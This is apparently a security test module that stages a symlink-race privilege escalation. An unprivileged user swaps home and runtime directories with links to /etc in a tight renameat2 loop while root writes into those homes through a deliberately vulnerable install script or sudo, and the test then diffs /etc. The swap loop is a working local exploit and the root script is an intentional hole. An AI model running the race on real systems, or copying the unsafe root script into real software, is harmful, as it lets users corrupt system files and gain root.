"""A user exchanges their directories, where root puts or looks for something, with links into /etc, over and over."""

from attacks.calls import granted
from attacks.clients import PORTS
from scenes import AUTHORITY

RECIPE = "succeeds"
STOPPED_BY = "viewer: nothing is put into a home, and what lies there is looked at with its user's rights"
BACKENDS = ("nftables", "iptables")
USER, VM = "myself", "debianx"
HOME, RUNTIME = f"/home/{USER}", "/run/user/1021"
SWAPPED = (f"{HOME}/.spicec", f"{HOME}/.config", f"{HOME}/Console", f"{RUNTIME}/pulse")
SCRIPT = "/usr/local/sbin/give-authority"
# Viewers without a connection file look for the authority of their consoles in the home.
TEXT = f"""#!/bin/sh
for home in /home/*; do
    user=${{home##*/}}
    install -D -o "$user" -g "$user" -m 0600 {AUTHORITY} "$home/.spicec/spice_truststore.pem"
done
"""
# Exchanges each directory with a link, thousands of times a second.
SWAP = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for path in sys.argv[1:]:
    os.makedirs(path, exist_ok=True)
    os.symlink("/etc", path + ".link")
print("swapping", flush=True)
while True:
    for path in sys.argv[1:]:
        assert libc.renameat2(-100, path.encode(), -100, (path + ".link").encode(), 2) == 0
"""
# A socket at which nobody answers: viewers that are shown it end soon.
DISPLAY = f'socket.socket(socket.AF_UNIX).bind("{RUNTIME}/wayland-0")'
# The tests' own pillar is there.
SPARED = ("-path", "/etc/salt-scene", "-prune", "-o")


def site(client):
    client.root("install", "-d", "-m", "0700", "-o", USER, RUNTIME, undo=["rm", "-rf", RUNTIME])
    client.site["vms"] = {VM: {"server": "mysrv", "tls_port": PORTS[VM], "allow": ["files"]}}
    if client.form in ("bare", "recipe"):
        client.machine.write(SCRIPT, TEXT, mode=0o755)
        client.used.callback(client.machine.run, ["rm", SCRIPT])


def attack(client):
    authority = client.machine.read(f"{HOME}/.spicec/spice_truststore.pem")
    client.used.callback(client.machine.write, f"{HOME}/.spicec/spice_truststore.pem", authority, owner=USER)
    client.used.callback(
        client.machine.run, ["rm", "-rf", *(f"{path}{end}" for path in SWAPPED for end in ("", ".link"))]
    )
    client.python(DISPLAY, user=USER)
    before = listing(client)
    swapping = client.start(SWAP, *SWAPPED, user=USER)
    work(client)
    assert swapping.process.poll() is None, "nothing was exchanged: this says nothing"
    swapping.close()
    after = listing(client)
    return sorted(path for path in {*before, *after} if before.get(path) != after.get(path))


def listing(client):
    """What there is in /etc, by path: kind, rights, owner, and when it was changed."""
    listed = client.root("find", "/etc", *SPARED, "-printf", "%p\\t%y %m %U %G %C@\\n")
    return dict(line.split("\t", 1) for line in listed.splitlines())


def work(client):
    """What root does on such a workstation, unasked and when the user asks sudo for it."""
    if client.form in ("bare", "recipe"):
        for _ in range(30):
            client.root(SCRIPT)
        return
    client.protect()
    options, program, arguments = granted(client, VM)
    for name in (".spicec/shadow", ".config/shadow", "Console/shadow"):
        env = ["env", "WAYLAND_DISPLAY=wayland-0", f"XAUTHORITY={HOME}/{name}"]
        for _ in range(3):
            client.machine.run([*env, "sudo", "-n", *options, program, *arguments], user=USER, check=False)
    client.protect()
